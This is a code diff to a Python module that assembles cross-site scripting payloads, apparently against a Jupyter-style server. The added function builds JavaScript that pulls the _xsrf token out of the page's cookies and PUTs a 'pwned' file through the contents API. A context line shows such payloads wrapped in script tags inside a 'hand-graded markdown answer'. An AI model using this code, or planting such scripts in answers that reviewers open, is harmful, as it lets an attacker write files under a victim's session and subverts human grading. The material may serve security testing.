@@ -25,6 +25,13 @@ def payload(kind: str) -> str:
             "content:'" + kind + "'})})")
 
 
+def write_from_page(kind: str) -> str:
+    """The payload's write as an expression giving the HTTP status, to show the session could write."""
+    return ("fetch('/api/contents/pwned-" + kind + ".txt',{method:'PUT',headers:{'X-XSRFToken':"
+            "decodeURIComponent((document.cookie.match(/_xsrf=([^;]+)/)||['',''])[1])},"
+            "body:JSON.stringify({type:'file',format:'text',content:'" + kind + "'})}).then(r=>r.status)")
+
+
 def explanation() -> str:
     """The hand-graded markdown answer: the real answer text among the payloads."""
     return (f"{ANSWER}.\n\n<script>{payload('script')}</script>\n\n"
